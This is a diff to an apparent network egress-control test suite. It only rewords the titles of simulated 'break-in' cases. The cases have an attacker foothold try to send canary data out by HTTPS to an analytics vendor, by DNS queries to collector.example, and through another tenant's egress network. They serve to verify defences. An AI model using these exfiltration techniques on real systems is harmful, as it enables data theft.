@@ -9,14 +9,14 @@ const vendorHost = "api.mixpanel.com";
 export const networkBreakIns: readonly BreakIn[] = [
   {
     id: "vendor-by-name",
-    title: "sends analytics straight to the vendor, by its name",
+    title: "sends analytics straight to the vendor, by name",
     expected: "DNS response policy",
     attempt: async ({ attacker, canary }) =>
       judge(await shoot(attacker.foothold, { url: `https://${vendorHost}/track?data=${canary}` })),
   },
   {
     id: "vendor-by-address",
-    title: "sends analytics straight to the vendor, by its address",
+    title: "sends analytics straight to the vendor, by address",
     expected: "VPC route",
     attempt: async ({ attacker, canary }) =>
       judge(
@@ -43,7 +43,7 @@ export const networkBreakIns: readonly BreakIn[] = [
   },
   {
     id: "names-as-messages",
-    title: "hides data in the look-up of a name",
+    title: "hides data in a DNS query",
     expected: "DNS response policy",
     attempt: async ({ attacker, canary }) => {
       const { text, error } = await attacker.foothold.lookUp(`${canary}.collector.example`);
@@ -59,7 +59,7 @@ export const networkBreakIns: readonly BreakIn[] = [
   },
   {
     id: "gate-from-outside",
-    title: "leaves through the other tenant's egress network, as another process of this machine",
+    title: "leaves by the other's egress network, from outside",
     expected: "instance boundary",
     possible: () => process.platform === "linux",
     attempt: async (scene) => throughGate(scene),
